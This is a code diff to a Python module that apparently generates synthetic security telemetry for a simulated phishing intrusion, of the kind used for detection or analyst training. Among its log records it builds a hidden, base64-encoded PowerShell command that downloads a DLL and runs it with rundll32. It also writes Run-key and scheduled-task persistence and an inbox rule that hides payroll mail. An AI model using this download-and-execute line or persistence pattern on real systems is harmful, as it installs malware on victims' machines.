@@ -36,10 +36,10 @@ from .identities import HOME_COUNTRY, display_name, signin, user_sid
 
 __all__ = ["HOME_COUNTRY", "STEPS", "STORY_ATTACHMENT", "STORY_ATTACHMENT_SHA256", "STORY_CATEGORY",
            "STORY_DOMAIN", "STORY_DOWNLOAD_URL", "STORY_IP", "STORY_PAYLOAD", "STORY_PAYLOAD_SHA1",
-           "STORY_PAYLOAD_SHA256", "STORY_RUN_KEY", "STORY_RUN_VALUE", "STORY_SENDER", "STORY_SENDER_IP",
-           "STORY_SIGNIN_COUNTRY", "STORY_SIGNIN_IP", "STORY_SUBJECT", "STORY_TASK", "STORY_TECHNIQUES",
-           "STORY_THREAT", "STORY_TITLE", "STORY_URL", "Victim", "alert_evidence", "file_hashes", "find_alert",
-           "pick_alert", "write_story"]
+           "STORY_PAYLOAD_SHA256", "STORY_POWERSHELL", "STORY_RUN_KEY", "STORY_RUN_VALUE", "STORY_SENDER",
+           "STORY_SENDER_IP", "STORY_SIGNIN_COUNTRY", "STORY_SIGNIN_IP", "STORY_SUBJECT", "STORY_TASK",
+           "STORY_TECHNIQUES", "STORY_THREAT", "STORY_TITLE", "STORY_URL", "Victim", "alert_evidence",
+           "file_hashes", "find_alert", "pick_alert", "write_story"]
 
 
 def file_hashes(label: str) -> dict[str, str]:
@@ -66,6 +66,11 @@ STORY_RUN_KEY = r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run"  # under HKEY_C
 STORY_RUN_VALUE = "SyncHost"
 STORY_TASK = r"\Microsoft\Windows\SyncHost\Update"
 STORY_THREAT = "Trojan:Win32/SyncHost.A"
+_SCRIPT = (f'$p="$env:APPDATA\\Microsoft\\SyncHost\\{STORY_PAYLOAD}";iwr {STORY_DOWNLOAD_URL} -OutFile $p;'
+           "rundll32.exe $p,DllRegisterServer")
+#: What WINWORD.EXE runs: PowerShell with the download script base64-encoded (UTF-16LE), as -enc takes it.
+STORY_POWERSHELL = ("powershell.exe -NoProfile -WindowStyle Hidden -enc "
+                    + base64.b64encode(_SCRIPT.encode("utf-16-le")).decode())
 STORY_SIGNIN_IP = "2001:db8:4c1:17::25"
 STORY_SIGNIN_COUNTRY, _SIGNIN_CITY, _SIGNIN_ISP = "NL", "Amsterdam", "Example Hosting B.V."
 STORY_TITLE, STORY_CATEGORY = "Malicious attachment opened", "InitialAccess"
@@ -109,16 +114,6 @@ def _folders(user: str) -> dict[str, str]:
             "dll": rf"{home}\AppData\Roaming\Microsoft\SyncHost"}
 
 
-def _encoded_command(user: str) -> str:
-    script = (f'$p="$env:APPDATA\\Microsoft\\SyncHost\\{STORY_PAYLOAD}";iwr {STORY_DOWNLOAD_URL} -OutFile $p;'
-              "rundll32.exe $p,DllRegisterServer")
-    return base64.b64encode(script.encode("utf-16-le")).decode()
-
-
-def powershell_command(user: str) -> str:
-    return f"powershell.exe -NoProfile -WindowStyle Hidden -enc {_encoded_command(user)}"
-
-
 def alert_evidence(user: Mapping, created: str) -> list[dict]:
     """The story alert's evidence (MDE shape): ``user`` (its User evidence) and the chain's
     attachment, payload, PowerShell process, URL and IP. ``created``: the evidence time (ISO)."""
@@ -133,7 +128,7 @@ def alert_evidence(user: Mapping, created: str) -> list[dict]:
         {**common, "entityType": "File", "fileName": STORY_PAYLOAD, "filePath": folders["dll"],
          "sha1": _DLL["SHA1"], "sha256": _DLL["SHA256"]},
         {**common, "entityType": "Process", "fileName": "powershell.exe",
-         "filePath": r"C:\Windows\System32\WindowsPowerShell\v1.0", "processCommandLine": powershell_command(name),
+         "filePath": r"C:\Windows\System32\WindowsPowerShell\v1.0", "processCommandLine": STORY_POWERSHELL,
          "sha1": ps["SHA1"], "sha256": ps["SHA256"]},
         {**common, "entityType": "Url", "url": STORY_URL},
         {**common, "entityType": "Ip", "ipAddress": STORY_IP},
@@ -181,7 +176,7 @@ class _Proc:
 
     @property
     def hashes(self) -> dict[str, str]:
-        return _DLL if self.file == STORY_PAYLOAD else file_hashes(f"benign:{self.file}")
+        return file_hashes(f"benign:{self.file}")
 
 
 def _initiating(p: _Proc, parent: _Proc, v: Victim) -> dict:
@@ -217,7 +212,7 @@ def write_story(w: Writer, v: Victim, rng: Any, alert_columns: Mapping[str, Any]
                  f'"msedge.exe" --single-argument {STORY_URL}', pid(), v.when("click", 5))
     word = _Proc("WINWORD.EXE", r"C:\Program Files\Microsoft Office\root\Office16",
                  rf'"WINWORD.EXE" /n "{folders["doc"]}\{STORY_ATTACHMENT}" /o ""', pid(), v.when("open", 5))
-    ps = _Proc("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", powershell_command(v.name), pid(),
+    ps = _Proc("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0", STORY_POWERSHELL, pid(),
                v.when("powershell"))
     rundll = _Proc("rundll32.exe", r"C:\Windows\System32",
                    rf'"rundll32.exe" {folders["dll"]}\{STORY_PAYLOAD},DllRegisterServer', pid(), v.when("rundll32"))
@@ -227,26 +222,26 @@ def write_story(w: Writer, v: Victim, rng: Any, alert_columns: Mapping[str, Any]
               "RecipientEmailAddress": v.upn, "RecipientObjectId": v.object_id}
     sender_domain = STORY_SENDER.split("@")[1]
     w.add_known("EmailEvents", v.when("mail"), NetworkMessageId=message_id,
-             InternetMessageId=f"<{message_id[:13]}@{sender_domain}>", SenderMailFromAddress=STORY_SENDER,
-             SenderMailFromDomain=sender_domain, SenderFromDomain=sender_domain, SenderIPv4=STORY_SENDER_IP,
-             Subject=STORY_SUBJECT, EmailDirection="Inbound", DeliveryAction="Delivered",
-             DeliveryLocation="Inbox/folder", ThreatTypes="Phish", ThreatNames="",
-             DetectionMethods={"Phish": ["URL detonation reputation"]}, ConfidenceLevel={"Phish": "Normal"},
-             AuthenticationDetails={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"},
-             AttachmentCount=1, UrlCount=1, EmailLanguage="en", OrgLevelAction="Allow",
-             OrgLevelPolicy="Allowed sender list", LatestDeliveryLocation="Junk folder",
-             LatestDeliveryAction="Moved to junk folder", **sender)
+                InternetMessageId=f"<{message_id[:13]}@{sender_domain}>", SenderMailFromAddress=STORY_SENDER,
+                SenderMailFromDomain=sender_domain, SenderFromDomain=sender_domain, SenderIPv4=STORY_SENDER_IP,
+                Subject=STORY_SUBJECT, EmailDirection="Inbound", DeliveryAction="Delivered",
+                DeliveryLocation="Inbox/folder", ThreatTypes="Phish", ThreatNames="",
+                DetectionMethods={"Phish": ["URL detonation reputation"]}, ConfidenceLevel={"Phish": "Normal"},
+                AuthenticationDetails={"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"},
+                AttachmentCount=1, UrlCount=1, EmailLanguage="en", OrgLevelAction="Allow",
+                OrgLevelPolicy="Allowed sender list", LatestDeliveryLocation="Junk folder",
+                LatestDeliveryAction="Moved to junk folder", **sender)
     w.add_known("EmailUrlInfo", v.when("mail"), NetworkMessageId=message_id, Url=STORY_URL, UrlDomain=STORY_DOMAIN,
-             UrlLocation="Body")
+                UrlLocation="Body")
     w.add_known("EmailAttachmentInfo", v.when("mail"), NetworkMessageId=message_id, FileName=STORY_ATTACHMENT,
-             FileType="docm", SHA256=_DOC["SHA256"], FileSize=88_064, ThreatTypes="Malware",
-             ThreatNames="TrojanDownloader:O97M/SyncHost", DetectionMethods={"Malware": ["File detonation"]},
-             **sender)
+                FileType="docm", SHA256=_DOC["SHA256"], FileSize=88_064, ThreatTypes="Malware",
+                ThreatNames="TrojanDownloader:O97M/SyncHost", DetectionMethods={"Malware": ["File detonation"]},
+                **sender)
 
     # 2. the click and the process tree
     w.add_known("DeviceLogonEvents", v.when("logon"), d, ActionType="LogonSuccess", LogonType="Unlock",
-             Protocol="Negotiate", IsLocalAdmin=False, LogonId=logon_id, RemoteIP="", RemoteIPType="",
-             InitiatingProcessFileName="lsass.exe", **{k: account[k] for k in ("AccountDomain", "AccountName", "AccountSid")})
+                Protocol="Negotiate", IsLocalAdmin=False, LogonId=logon_id, RemoteIP="", RemoteIPType="",
+                InitiatingProcessFileName="lsass.exe", **_short(account))
     click = {"Url": STORY_URL, "AccountUpn": v.upn, "Workload": "Email", "NetworkMessageId": message_id,
              "ThreatTypes": "Phish", "DetectionMethods": "URL detonation reputation", "IPAddress": d["public_ip"],
              "UrlChain": [STORY_URL]}
@@ -258,80 +253,83 @@ def write_story(w: Writer, v: Victim, rng: Any, alert_columns: Mapping[str, Any]
     tree = [(edge, outlook, explorer), (word, outlook, explorer), (ps, word, outlook), (rundll, ps, word)]
     for p, parent, grandparent in tree:
         w.add_known("DeviceProcessEvents", p.created, d, ActionType="ProcessCreated", FileName=p.file,
-                 FolderPath=rf"{p.folder}\{p.file}", **p.hashes, FileSize=rng.randrange(80_000, 4_000_000),
-                 ProcessVersionInfoCompanyName=p.company, ProcessVersionInfoOriginalFileName=p.file,
-                 ProcessId=p.pid, ProcessCommandLine=p.command, ProcessCreationTime=p.created,
-                 ProcessIntegrityLevel="Medium", ProcessTokenElevation="TokenElevationTypeLimited", LogonId=logon_id,
-                 InitiatingProcessLogonId=logon_id, **account, **_initiating(parent, grandparent, v))
+                    FolderPath=rf"{p.folder}\{p.file}", **p.hashes, FileSize=rng.randrange(80_000, 4_000_000),
+                    ProcessVersionInfoCompanyName=p.company, ProcessVersionInfoOriginalFileName=p.file,
+                    ProcessId=p.pid, ProcessCommandLine=p.command, ProcessCreationTime=p.created,
+                    ProcessIntegrityLevel="Medium", ProcessTokenElevation="TokenElevationTypeLimited", LogonId=logon_id,
+                    InitiatingProcessLogonId=logon_id, **account, **_initiating(parent, grandparent, v))
     w.add_known("DeviceFileEvents", v.when("open", -2), d, ActionType="FileCreated", FileName=STORY_ATTACHMENT,
-             FolderPath=rf"{folders['doc']}\{STORY_ATTACHMENT}", **_DOC, FileSize=88_064,
-             **_initiating(outlook, explorer, v))
+                FolderPath=rf"{folders['doc']}\{STORY_ATTACHMENT}", **_DOC, FileSize=88_064,
+                **_initiating(outlook, explorer, v))
 
     # 3. the download, the payload and its calls home
     remote = {"RemoteIP": STORY_IP, "RemotePort": 443, "LocalIP": d["ip"], "Protocol": "Tcp",
               "LocalIPType": "Private", "RemoteIPType": "Public", "ActionType": "ConnectionSuccess"}
-    w.add_known("DeviceNetworkEvents", v.when("click", 6), d, RemoteUrl=STORY_URL, LocalPort=rng.randrange(49152, 65535),
-             **remote, **_initiating(edge, outlook, v))
+    w.add_known("DeviceNetworkEvents", v.when("click", 6), d, RemoteUrl=STORY_URL,
+                LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(edge, outlook, v))
     w.add_known("DeviceEvents", v.when("powershell", 2), d, ActionType="PowerShellCommand",
-             AdditionalFields={"Command": "Invoke-WebRequest"}, **_initiating(ps, word, v), **_short(account))
+                AdditionalFields={"Command": "Invoke-WebRequest"}, **_initiating(ps, word, v), **_short(account))
     w.add_known("DeviceNetworkEvents", v.when("download", -2), d, RemoteUrl=STORY_DOMAIN,
-             LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(ps, word, v))
+                LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(ps, word, v))
     w.add_known("DeviceFileEvents", v.when("download"), d, ActionType="FileCreated", FileName=STORY_PAYLOAD,
-             FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL, FileSize=241_664,
-             FileOriginUrl=STORY_DOWNLOAD_URL, FileOriginIP=STORY_IP, **_initiating(ps, word, v))
+                FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL, FileSize=241_664,
+                FileOriginUrl=STORY_DOWNLOAD_URL, FileOriginIP=STORY_IP, **_initiating(ps, word, v))
     w.add_known("DeviceImageLoadEvents", v.when("rundll32", 1), d, ActionType="ImageLoaded", FileName=STORY_PAYLOAD,
-             FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL, FileSize=241_664,
-             **_initiating(rundll, ps, v))
+                FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL, FileSize=241_664,
+                **_initiating(rundll, ps, v))
     for i in range(_BEACONS):
         w.add_known("DeviceNetworkEvents", v.when("beacon", 300 * i + rng.randrange(0, 20)), d, RemoteUrl=STORY_DOMAIN,
-                 LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(rundll, ps, v))
+                    LocalPort=rng.randrange(49152, 65535), **remote, **_initiating(rundll, ps, v))
 
     # 4. persistence and the detection
     run_data = rf'rundll32.exe "{folders["dll"]}\{STORY_PAYLOAD}",DllRegisterServer'
+    task = f"<Exec><Command>{run_data}</Command></Exec>"
     w.add_known("DeviceRegistryEvents", v.when("persist"), d, ActionType="RegistryValueSet",
-             RegistryKey=rf"HKEY_CURRENT_USER\{v.sid}\{STORY_RUN_KEY}", RegistryValueType="String",
-             RegistryValueName=STORY_RUN_VALUE, RegistryValueData=run_data, **_initiating(rundll, ps, v))
+                RegistryKey=rf"HKEY_CURRENT_USER\{v.sid}\{STORY_RUN_KEY}", RegistryValueType="String",
+                RegistryValueName=STORY_RUN_VALUE, RegistryValueData=run_data, **_initiating(rundll, ps, v))
     w.add_known("DeviceEvents", v.when("persist", 10), d, ActionType="ScheduledTaskCreated",
-             AdditionalFields={"TaskName": STORY_TASK, "TaskContent": f"<Exec><Command>{run_data}</Command></Exec>",
-                               "SubjectUserName": v.name, "SubjectDomainName": v.domain.upper()},
-             **_initiating(rundll, ps, v), **_short(account))
+                AdditionalFields={"TaskName": STORY_TASK, "TaskContent": task, "SubjectUserName": v.name,
+                                  "SubjectDomainName": v.domain.upper()},
+                **_initiating(rundll, ps, v), **_short(account))
     w.add_known("DeviceEvents", v.when("detection"), d, ActionType="AntivirusDetection", FileName=STORY_PAYLOAD,
-             FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL,
-             AdditionalFields={"ThreatName": STORY_THREAT, "WasRemediated": False, "WasExecutingWhileDetected": True,
-                               "Action": "Detected"},
-             InitiatingProcessFileName="MsMpEng.exe", InitiatingProcessFolderPath=r"C:\ProgramData\Microsoft\Windows Defender")
+                FolderPath=rf"{folders['dll']}\{STORY_PAYLOAD}", **_DLL,
+                AdditionalFields={"ThreatName": STORY_THREAT, "WasRemediated": False,
+                                  "WasExecutingWhileDetected": True, "Action": "Detected"},
+                InitiatingProcessFileName="MsMpEng.exe",
+                InitiatingProcessFolderPath=r"C:\ProgramData\Microsoft\Windows Defender")
 
     # 5. the stolen password used from abroad, and the inbox rule
     who = {"Application": "Office 365 Exchange Online", "ApplicationId": "00000002-0000-0ff1-ce00-000000000000",
-              "AccountUpn": v.upn, "AccountObjectId": v.object_id, "AccountDisplayName": display_name(v.name),
-              "IPAddress": STORY_SIGNIN_IP}
+           "AccountUpn": v.upn, "AccountObjectId": v.object_id, "AccountDisplayName": display_name(v.name),
+           "IPAddress": STORY_SIGNIN_IP}
     signin(w, v.when("signin"), rng, who, country=STORY_SIGNIN_COUNTRY, city=_SIGNIN_CITY, risk=50,
-            user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
+           user_agent="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
     w.add_known("IdentityLogonEvents", v.when("signin"), ActionType="LogonSuccess", Application="Office 365",
-             LogonType="Login:login", Protocol="", AccountName=v.name, AccountDomain=v.device["domain"],
-             AccountUpn=v.upn, AccountObjectId=v.object_id, AccountDisplayName=display_name(v.name),
-             IPAddress=STORY_SIGNIN_IP, Location=STORY_SIGNIN_COUNTRY, Isp=_SIGNIN_ISP, OSPlatform="Linux",
-             DeviceType="Desktop", AdditionalFields={})
-    parameters = [{"Name": "Name", "Value": "."}, {"Name": "SubjectOrBodyContainsWords", "Value": "payslip;payroll;invoice"},
+                LogonType="Login:login", Protocol="", AccountName=v.name, AccountDomain=v.device["domain"],
+                AccountUpn=v.upn, AccountObjectId=v.object_id, AccountDisplayName=display_name(v.name),
+                IPAddress=STORY_SIGNIN_IP, Location=STORY_SIGNIN_COUNTRY, Isp=_SIGNIN_ISP, OSPlatform="Linux",
+                DeviceType="Desktop", AdditionalFields={})
+    parameters = [{"Name": "Name", "Value": "."},
+                  {"Name": "SubjectOrBodyContainsWords", "Value": "payslip;payroll;invoice"},
                   {"Name": "MoveToFolder", "Value": "RSS Feeds"}, {"Name": "MarkAsRead", "Value": "True"},
                   {"Name": "StopProcessingRules", "Value": "True"}]
-    w.add_known("CloudAppEvents", v.when("inbox_rule"), ActionType="New-InboxRule", Application="Microsoft Exchange Online",
-             ApplicationId=20893, AccountObjectId=v.object_id, AccountId=v.object_id,
-             AccountDisplayName=display_name(v.name), IsAdminOperation=False, IPAddress=STORY_SIGNIN_IP,
-             IsAnonymousProxy=False, CountryCode=STORY_SIGNIN_COUNTRY, City=_SIGNIN_CITY, Isp=_SIGNIN_ISP,
-             ActivityType="Create", ObjectName=".", ObjectType="Inbox rule", AccountType="Regular",
-             ActivityObjects=[{"Type": "Inbox rule", "Name": "."}],
-             RawEventData={"Operation": "New-InboxRule", "ResultStatus": "True", "UserId": v.upn,
-                           "ClientIP": STORY_SIGNIN_IP, "ObjectId": f"{v.upn}\\.", "Parameters": parameters},
-             UncommonForUser=["ActionType", "CountryCode", "ISP"])
+    w.add_known("CloudAppEvents", v.when("inbox_rule"), ActionType="New-InboxRule",
+                Application="Microsoft Exchange Online", ApplicationId=20893, AccountObjectId=v.object_id, AccountId=v.object_id,
+                AccountDisplayName=display_name(v.name), IsAdminOperation=False, IPAddress=STORY_SIGNIN_IP,
+                IsAnonymousProxy=False, CountryCode=STORY_SIGNIN_COUNTRY, City=_SIGNIN_CITY, Isp=_SIGNIN_ISP,
+                ActivityType="Create", ObjectName=".", ObjectType="Inbox rule", AccountType="Regular",
+                ActivityObjects=[{"Type": "Inbox rule", "Name": "."}],
+                RawEventData={"Operation": "New-InboxRule", "ResultStatus": "True", "UserId": v.upn,
+                              "ClientIP": STORY_SIGNIN_IP, "ObjectId": f"{v.upn}\\.", "Parameters": parameters},
+                UncommonForUser=["ActionType", "CountryCode", "ISP"])
 
     # the alert's evidence rows the MDE alert shape has no place for
     evidence = {**alert_columns, "DeviceId": d["id"], "DeviceName": d["name"]}
     w.add_known("AlertEvidence", v.at, EntityType="MailMessage", EvidenceRole="Related", NetworkMessageId=message_id,
-             EmailSubject=STORY_SUBJECT, AccountUpn=v.upn, **evidence)
+                EmailSubject=STORY_SUBJECT, AccountUpn=v.upn, **evidence)
     w.add_known("AlertEvidence", v.at, EntityType="RegistryValue", EvidenceRole="Related",
-             RegistryKey=rf"HKEY_CURRENT_USER\{v.sid}\{STORY_RUN_KEY}", RegistryValueName=STORY_RUN_VALUE,
-             RegistryValueData=run_data, **evidence)
+                RegistryKey=rf"HKEY_CURRENT_USER\{v.sid}\{STORY_RUN_KEY}", RegistryValueName=STORY_RUN_VALUE,
+                RegistryValueData=run_data, **evidence)
 
 
 def _short(account: Mapping) -> dict:
